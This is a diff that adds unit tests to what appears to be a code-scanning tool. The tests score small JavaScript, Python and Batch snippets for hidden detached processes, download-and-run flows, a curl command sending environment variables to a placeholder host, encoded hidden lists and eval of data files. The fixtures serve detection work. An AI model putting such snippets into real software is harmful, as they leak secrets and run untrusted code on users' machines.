@@ -132,3 +132,71 @@ fn commands_that_carry_others() {
     assert!(!runs(&format!("#!/bin/sh\nsudo command -v {fetched}")));
     assert!(!runs("#!/bin/sh\ndocker run --rm alpine sh -c \"$(cat tune.sh)\""));
 }
+
+#[test]
+fn who_goes_on_without_its_terminal_is_no_other_script() {
+    let code = |script: &str| {
+        format!(
+            "const cp = require('child_process');\n\
+             cp.spawn(process.execPath, [{script}, 'serve'], {{detached: true, stdio: 'ignore'}}).unref();\n"
+        )
+    };
+    let starts = |script: &str| weight(Language::JavaScript, &code(script), "flow-starts-unseen");
+    assert!(starts("process.argv[1]") < Some(Severity::High));
+    assert!(starts("'./worker.js'") >= Some(Severity::High));
+}
+
+#[test]
+fn a_server_on_the_same_machine_tells_a_script_what_to_do() {
+    let code = |from: &str| {
+        format!(
+            "import subprocess, requests\nwhat = requests.get('{from}/poll').json()\n\
+             subprocess.run(['node', '/opt/tool/accept.js', '--id', what['id'], what['page']])\n"
+        )
+    };
+    let runs = |from: &str| weight(Language::Python, &code(from), "flow-download-run");
+    assert!(runs("http://127.0.0.1:4000") < Some(Severity::High));
+    assert!(runs("http://192.0.2.4:4000") >= Some(Severity::High) && runs("http://10.0.0.4") >= Some(Severity::High));
+}
+
+#[test]
+fn a_program_that_works_on_data_does_not_start_it() {
+    let code = |command: &str| {
+        format!(
+            "import subprocess, wget\nto = folder() + '/schema.fbs'\n\
+             wget.download('https://h.invalid/schema.fbs', to)\nsubprocess.call({command})\n"
+        )
+    };
+    let runs = |command: &str| weight(Language::Python, &code(command), "flow-download-run");
+    assert!(runs("['flatc', '-p', '-o', folder(), to]") < Some(Severity::High));
+    assert!(runs("['python', to]") >= Some(Severity::High) && runs("[to]") >= Some(Severity::High));
+}
+
+#[test]
+fn what_is_typed_into_a_batch_file_is_not_the_environment() {
+    let code = |set: &str| format!("@echo off\r\n{set}\r\ncurl.exe -d \"%v%\" \"https://h.invalid/v\"\r\n");
+    let sent = |set: &str| weight(Language::Batch, &code(set), "flow-environment-sent");
+    assert_eq!(sent("set /p v=<\"%~dp0VERSION\""), None);
+    assert!(sent("for /f \"delims=\" %%i in ('set') do set \"v=%%i\"") >= Some(Severity::High));
+}
+
+#[test]
+fn whether_there_is_an_address_at_all_is_compared_with_no_list() {
+    let code = |test: &str| {
+        format!(
+            "const l = atob('cHJveHkuaW52YWxpZCxnYXRlLmludmFsaWQ=').split(',');\n\
+             const known = l.includes(process.env.HTTPS_PROXY);\nif ({test}) {{ mark(); }}\n"
+        )
+    };
+    let told = |test: &str| outcome(Language::JavaScript, &code(test)).choices.iter().any(|c| c.is_by_hidden_list());
+    assert!(!told("known == null"));
+    assert!(told("known") && told("known == other()"));
+}
+
+#[test]
+fn a_file_of_any_name_is_none_that_the_package_brings() {
+    let code = |file: &str| format!("name = input()\neval(open({file}).read())\n");
+    let runs = |file: &str| weight(Language::Python, &code(file), "flow-executes-data-file");
+    assert!(runs("f'chats/{name}.txt'") < Some(Severity::High));
+    assert!(runs("'chats/first.txt'") >= Some(Severity::High));
+}
